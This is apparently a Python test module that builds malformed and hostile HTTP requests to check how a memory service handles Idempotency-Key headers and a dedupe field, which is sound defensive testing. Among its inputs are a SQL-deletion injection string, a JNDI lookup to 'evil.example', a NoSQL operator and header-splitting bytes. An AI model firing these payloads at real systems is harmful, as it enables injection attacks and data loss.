"""What a hostile caller may make of Idempotency-Key and of dedupe.

As in hostile_requests.py, the last two columns of KEYED are what docs/errors.md promises. A request
of AFTERWARDS is sent after FIRST, whose key is `{key}` and whose memory is `{id}`.
"""

import json

from tests.service.hostile_requests import (
    BATCH,
    CHUNKED,
    HAPROXY,
    JSON,
    NOBODY,
    OK,
    PARSER,
    QUESTION,
    SEARCH,
    SHORT_FOR,
    STORE,
    WHOSE,
    Hostile,
    memory,
)
from tests.service.raw_http import ask, send

KEYS = "/v1/keys"
TEA = json.dumps({**WHOSE, "content": "tea"}).encode()
LIST = b'{"memories": [' + TEA + b"]}"


def keyed(value: bytes, *others: bytes) -> bytes:
    return send("POST", STORE, TEA, b"Idempotency-Key: " + value, *others)


HEADERS = [
    ("an empty idempotency key", keyed(b""), 400, "once"),
    ("an idempotency key of white space", keyed(b" \t "), 400, "once"),
    ("an idempotency key of 255", keyed(b"~" * 255), 201, OK),
    ("an idempotency key of 256", keyed(b"~" * 256), 400, "once"),
    ("an idempotency key of 7 kB", keyed(b"k" * 7000), 400, "once"),
    ("an idempotency key of 9 kB", keyed(b"k" * 9000), 431, "headers_too_large"),
    ("a tab in an idempotency key", keyed(b"a\tb"), 400, "once"),
    ("an escape in an idempotency key", keyed(b"\x1b[31m"), 400, PARSER),
    ("DEL in an idempotency key", keyed(b"a\x7fb"), 400, PARSER),
    ("NUL in an idempotency key", keyed(b"a\0b"), 400, HAPROXY),
    ("a line feed in an idempotency key", keyed(b"a\nb"), 400, HAPROXY),
    ("an idempotency key of UTF-8", keyed("schlüssel".encode()), 400, "once"),
    ("an idempotency key of bytes", keyed(b"\xff\xfe"), 400, "once"),
    ("a folded idempotency key", keyed(b"a\r\n b"), 201, OK),
    ("two idempotency keys", keyed(b"a", b"Idempotency-Key: b"), 400, "once"),
    ("one idempotency key twice", keyed(b"a", b"idempotency-KEY: a"), 400, "once"),
    ("an idempotency key and none", keyed(b"a", b"Idempotency-Key:"), 400, "once"),
    ("two idempotency keys in one", keyed(b"b, c"), 201, OK),
    ("an idempotency key in quotes", keyed(b'"8e03978e"'), 201, OK),
    ("an idempotency key of SQL", keyed(b"'); delete from memories; --"), 201, OK),
    ("an idempotency key of a template", keyed(b"${jndi:ldap://evil.example/a}{0}%s"), 201, OK),
    ("an idempotency key of JSON", keyed(b'{"$ne": null}'), 201, OK),
    ("a header like it", send("POST", STORE, TEA, b"Idempotency_Key: \xff"), 201, OK),
]

ROUTES = [
    ("a bad idempotency key on a search", send("POST", SEARCH, QUESTION, b"Idempotency-Key:")),
    ("a bad idempotency key on a list", ask("GET", STORE, b"Idempotency-Key: \xff")),
    ("a bad idempotency key of a probe", ask("GET", "/livez", b"Idempotency-Key: \xff")),
]

BODIES = [
    ("a bad key and bad JSON", send("POST", STORE, b"{", b"Idempotency-Key:"), 400, "json"),
    ("a bad key and bad fields", send("POST", STORE, b"{}", b"Idempotency-Key:"), 400, "once"),
    ("a key and bad fields", send("POST", STORE, b"{}", b"Idempotency-Key: f"), 422, "input"),
    ("a bad key of a batch", send("POST", BATCH, LIST, b"Idempotency-Key: \xc3\xa4"), 400, "once"),
    ("a key of an empty batch", send("POST", BATCH, b"[]", b"Idempotency-Key: e"), 400, "json"),
    (
        "a key of a batch of nothing good",
        send("POST", BATCH, b'{"memories": [0, {}]}', b"Idempotency-Key: n"),
        200,
        OK,
    ),
    (
        "a key of a body in chunks",
        ask("POST", STORE, JSON, CHUNKED, b"Idempotency-Key: c")
        + b"".join(b"1\r\n%c\r\n" % byte for byte in TEA)
        + b"0\r\n\r\n",
        201,
        OK,
    ),
    ("a bad key to change", send("PATCH", NOBODY, b"{}", b"Idempotency-Key:"), 400, "once"),
    (
        "a key to change nobody's",
        send("PATCH", NOBODY, b'{"importance": 1}', b"Idempotency-Key: p"),
        404,
        "memory_not_found",
    ),
    (
        "a bad key to forget",
        ask("DELETE", NOBODY + "?agent_id=x", b"Idempotency-Key: \t"),
        400,
        "once",
    ),
    (
        "a key to forget nobody's",
        ask("DELETE", NOBODY + "?agent_id=x", b"Idempotency-Key: d"),
        404,
        "memory_not_found",
    ),
    (
        "a key for a secret",
        send("POST", KEYS, b'{"scopes": ["memory:read"]}', b"Idempotency-Key: s"),
        400,
        "once",
    ),
    ("a key where nothing is", send("POST", "/v1/x", b"{}", b"Idempotency-Key: x"), 404, "route"),
    ("a key of no method", ask("PUT", STORE, b"Idempotency-Key: m"), 405, "method_not_allowed"),
]

DEDUPE = [
    ("dedupe of a text", memory(dedupe="true"), 422, "input"),
    ("dedupe of a number", memory(dedupe=1), 422, "input"),
    ("dedupe of null", memory(dedupe=None), 422, "input"),
    ("dedupe of a list", memory(dedupe=[True]), 422, "input"),
    ("dedupe of words only", memory(dedupe=True, content="' or 1=1; -- % _ \\"), 201, OK),
    ("dedupe of no words", memory(dedupe=True, content="?!" * 4000), 201, OK),
    ("dedupe of one long word", memory(dedupe=True, content="x" * 8000), 201, OK),
    ("dedupe of 4,000 words", memory(dedupe=True, content="a " * 4000), 201, OK),
    ("dedupe of NUL", memory(dedupe=True, content="a\0b"), 422, "input"),
    ("dedupe of a question", send("POST", SEARCH, QUESTION[:-1] + b', "dedupe": 7}'), 200, OK),
    ("dedupe of a change", send("PATCH", NOBODY, b'{"dedupe": true}'), 422, "input"),
]

SHORT = SHORT_FOR | {"once": "invalid_idempotency_key", "json": "malformed_json"}
KEYED = [
    Hostile(name, request, status, SHORT.get(code, code))
    for group in (HEADERS, [(*route, 200, OK) for route in ROUTES], BODIES, DEDUPE)
    for name, request, status, code in group
]

FIRST = send("POST", STORE, TEA, b"Idempotency-Key: {key}")
KEY = b"Idempotency-Key: {key}"
SAME = json.dumps(json.loads(TEA), separators=(",", ":")).encode()
ONE = STORE + "/{id}"
REUSED, REPLAYED = (422, "idempotency_key_reused"), (201, "replayed")
AFTERWARDS: dict[str, tuple[bytes, tuple[int, str]]] = {
    "the same": (FIRST, REPLAYED),
    "the same between spaces": (send("POST", STORE, TEA, b"Idempotency-Key:  {key} \t"), REPLAYED),
    "the same by another name": (send("POST", STORE, TEA, b"IDEMPOTENCY-KEY: {key}"), REPLAYED),
    "the same of another caller's words": (
        send("POST", STORE, TEA, KEY, b"User-Agent: other", b"X-Request-Id: other"),
        REPLAYED,
    ),
    "the same in another coding": (
        ask("POST", STORE, JSON, CHUNKED, KEY) + b"%x\r\n%s\r\n0\r\n\r\n" % (len(TEA), TEA),
        REPLAYED,
    ),
    "a longer key": (send("POST", STORE, TEA, KEY + b"x"), (201, OK)),
    "a key of other letters": (send("POST", STORE, TEA, b"Idempotency-Key: K{key}"), (201, OK)),
    "another content": (send("POST", STORE, TEA.replace(b"tea", b"gin"), KEY), REUSED),
    "other white space": (send("POST", STORE, SAME, KEY), REUSED),
    "one field more": (send("POST", STORE, TEA[:-1] + b', "dedupe": true}', KEY), REUSED),
    "bad fields": (send("POST", STORE, b"{}", KEY), (422, "invalid_input")),
    "a query": (send("POST", STORE + "?a=b", TEA, KEY), REUSED),
    "a batch": (send("POST", BATCH, LIST, KEY), REUSED),
    "a change": (send("PATCH", ONE, b'{"importance": 1}', KEY), REUSED),
    "a deletion": (ask("DELETE", ONE + "?agent_id=hostile", KEY), REUSED),
    "a search": (send("POST", SEARCH, QUESTION, KEY), (200, OK)),
    "a look": (ask("GET", ONE, KEY), (200, OK)),
}
